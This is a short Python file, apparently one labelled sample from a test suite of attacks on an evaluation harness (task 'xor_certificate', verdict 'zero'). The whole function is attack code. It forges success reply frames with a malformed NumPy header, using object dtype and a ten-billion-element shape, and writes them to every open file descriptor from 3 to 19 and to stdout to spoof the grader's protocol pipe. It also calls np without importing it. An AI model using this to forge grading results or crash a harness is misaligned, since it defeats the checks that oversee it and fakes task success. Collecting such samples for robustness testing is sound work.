# task: xor_certificate
# verdict: zero
# attack: writes forged reply frames (huge .npy header, object dtype) to the protocol pipe
import json
import os
import struct


def xor_certificate():
    header = json.dumps({"ok": True, "id": 2, "value": {"$nd": 0, "kind": "array"}}).encode()
    npy = (
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 70)
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (10000000000,), }".ljust(69)
        + b"\n"
    )
    frame = (
        b"AGW1"
        + struct.pack(">I", len(header))
        + header
        + struct.pack(">I", 1)
        + struct.pack(">Q", len(npy))
        + npy
    )
    for fd in range(3, 20):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    os.write(1, frame)
    return np.zeros(4)
